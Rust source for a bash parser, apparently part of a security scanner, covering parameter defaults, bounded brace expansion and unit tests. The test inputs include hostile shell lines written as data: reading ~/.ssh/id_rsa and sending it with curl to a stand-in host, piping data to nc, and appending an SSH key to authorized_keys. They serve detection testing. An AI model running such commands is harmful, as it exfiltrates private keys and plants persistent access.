    if text.starts_with('#') || text.starts_with('!') {
        return Expr::Unknown;
    }
    let n = text
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'@' || *b == b'*')
        .count();
    let var = &text[..n];
    if var.is_empty() {
        return Expr::Unknown;
    }
    let var_expr = if var.bytes().all(|b| b.is_ascii_digit()) || var == "@" || var == "*" {
        Expr::Name(format!("${var}"), pos)
    } else {
        Expr::Name(var.to_string(), pos)
    };
    let rest = &text[n..];
    for op in [":-", ":=", ":+", "-", "=", "+"] {
        if let Some(default) = rest.strip_prefix(op) {
            let Some(_guard) = DepthGuard::enter() else {
                return var_expr;
            };
            let mut inner = Sh {
                c: Cursor::new(default, pos.line),
                functions: Vec::new(),
                hd_line_end: None,
                hd_cursor: 0,
                weak: 0,
                open: Vec::new(),
                brace_word: false,
            };
            let d = inner.word();
            return Expr::Or(vec![var_expr, d]);
        }
    }
    if rest.is_empty() {
        var_expr
    } else {
        Expr::Mix(vec![var_expr])
    }
}

/// Bash brace expansion of an unquoted literal word: `{cu,}rl` → `curl`, `rl`;
/// `a{b,c}d` → `abd`, `acd`. None when the word has no `{…,…}` (ranges `{1..3}` are left
/// alone). At most 16 words.
fn brace_expand(word: &str) -> Option<Vec<String>> {
    brace_expand_at(word, 0)
}

fn brace_expand_at(word: &str, level: u32) -> Option<Vec<String>> {
    if level >= 8 || word.len() > 4096 {
        return None;
    }
    let b = word.as_bytes();
    let open = b.iter().position(|c| *c == b'{')?;
    let mut depth = 0;
    let mut commas = Vec::new();
    let mut close = None;
    for (k, c) in b.iter().enumerate().skip(open) {
        match c {
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    close = Some(k);
                    break;
                }
            }
            b',' if depth == 1 => commas.push(k),
            _ => {}
        }
    }
    let close = close?;
    if commas.is_empty() {
        return None;
    }
    let (pre, post) = (&word[..open], &word[close + 1..]);
    let mut bounds = vec![open];
    bounds.extend(&commas);
    bounds.push(close);
    let mut out = Vec::new();
    for w in bounds.windows(2) {
        let alt = format!("{pre}{}{post}", &word[w[0] + 1..w[1]]);
        match brace_expand_at(&alt, level + 1) {
            Some(more) => out.extend(more),
            None => out.push(alt),
        }
        if out.len() >= 16 {
            out.truncate(16);
            break;
        }
    }
    Some(out)
}

/// A word that ends in `=` (`NAME=` before an array value).
fn ends_with_eq(w: &Expr) -> bool {
    match w {
        Expr::Str(s) => s.ends_with('='),
        Expr::Concat(v) => matches!(v.last(), Some(Expr::Str(s)) if s.ends_with('=')),
        _ => false,
    }
}

/// `X=v` / `X+=v` (append is string concatenation).
fn assignment(name: String, value: Expr, append: bool, weak: bool, pos: Pos) -> Stmt {
    let value = if append {
        Expr::Concat(vec![Expr::Name(name.clone(), pos), value])
    } else {
        value
    };
    Stmt::Assign {
        targets: vec![Target::Name(name)],
        value,
        weak,
        pos,
    }
}

/// `NAME=value` written as one word after `export`/`local`.
fn split_assignment(w: &Expr) -> Option<(String, Expr)> {
    let (first, tail): (&str, Vec<Expr>) = match w {
        Expr::Str(s) => (s.as_str(), Vec::new()),
        Expr::Concat(v) => match v.first() {
            Some(Expr::Str(s)) => (s.as_str(), v[1..].to_vec()),
            _ => return None,
        },
        _ => return None,
    };
    let (name, value) = first.split_once('=')?;
    if !is_name(name) {
        return None;
    }
    let mut pieces = Vec::new();
    if !value.is_empty() {
        pieces.push(Expr::Str(value.to_string()));
    }
    pieces.extend(tail);
    Some((name.to_string(), join_pieces(pieces)))
}

fn flush(lit: &mut String, pieces: &mut Vec<Expr>) {
    if lit.is_empty() {
        return;
    }
    let s = std::mem::take(lit);
    if s.contains(HOLE) {
        for (k, part) in s.split(HOLE).enumerate() {
            if k > 0 {
                pieces.push(Expr::Name("<hole>".into(), Pos::default()));
            }
            if !part.is_empty() {
                pieces.push(Expr::Str(part.to_string()));
            }
        }
    } else {
        pieces.push(Expr::Str(s));
    }
}

fn join_pieces(mut pieces: Vec<Expr>) -> Expr {
    match pieces.len() {
        0 => Expr::Str(String::new()),
        1 => pieces.pop().unwrap_or(Expr::Unknown),
        _ => Expr::Concat(pieces),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn calls(m: &Module) -> String {
        format!("{:?}", m.body)
    }

    #[test]
    fn pipeline_heredoc_and_substitution() {
        let src =
            "KEY=$(cat ~/.ssh/id_rsa)\ncat <<EOF | curl -d @- http://x\n$KEY\nEOF\necho done\n";
        let m = parse(src);
        let s = calls(&m);
        assert!(
            s.contains("id_rsa") && s.contains("curl") && s.contains("\"done\""),
            "{s}"
        );
        assert_eq!(m.body.len(), 3, "{s}");
    }

    #[test]
    fn functions_case_and_loops() {
        let src = "f() {\n  local x=\"$1\"\n  nc host 1 <<< \"$x\"\n}\ncase $a in\n  x|y) f \"$HOME\" ;;\n  *) echo no ;;\nesac\nfor i in a b; do echo $i; done\n";
        let m = parse(src);
        assert_eq!(m.functions.len(), 1);
        let s = calls(&m);
        assert!(s.contains("HOME") && s.contains("\"no\""), "{s}");
    }

    #[test]
    fn redirections() {
        let m = parse("echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys 2>/dev/null\n");
        let s = calls(&m);
        assert!(
            s.contains("<append>") && s.contains("authorized_keys"),
            "{s}"
        );
        assert!(!s.contains("/dev/null"), "{s}");
    }

    #[test]
    fn tests_and_arrays_that_used_to_be_skipped() {
        let src = "declare -a FILES=()\nlocal -a xs=(a \"$b\")\nif [[ $cmd =~ api\\.github\\.com/([^/]+)/(a|b) ]] && [[ -n \"$(id -u)\" ]]; then\n  curl -s \"$u\"\nfi\n";
        let m = parse(src);
        assert_eq!(m.unparsed, vec![]);
        let s = calls(&m);
        assert!(s.contains("curl") && s.contains("\"id\""), "{s}");
        // An unclosed `[[` is read as before.
        let m = parse("[[ -f x\necho ok\n");
        assert!(calls(&m).contains("\"ok\""));
    }

    #[test]
    fn hostile_nesting() {
        let src = format!("{}x{}", "$(".repeat(3000), ")".repeat(3000));
        let _ = parse(&src);
        let src = "`".repeat(10000);
        let _ = parse(&src);
        // Brace expansion and `[[` tests stay bounded.
        let _ = parse(&format!("echo {}\n", "{a,b,c}".repeat(500)));
        let _ = parse(&format!(
            "echo {}x{}\n",
            "{a,".repeat(2000),
            "}".repeat(2000)
        ));
        let _ = parse(&format!("{} ]]\n", "[[ $(".repeat(500)));
    }
}
